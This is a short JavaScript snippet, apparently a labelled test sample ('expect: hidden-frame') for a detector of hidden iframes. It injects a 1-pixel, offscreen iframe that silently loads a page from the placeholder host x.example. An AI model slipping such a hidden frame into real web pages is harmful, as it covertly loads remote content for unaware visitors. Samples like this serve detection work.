// expect: hidden-frame
const f=document.createElement("iframe");Object.assign(f.style,{width:"1px",height:"1px",position:"absolute",left:"-9999px"});f.src="https://x.example/b";document.body.append(f);
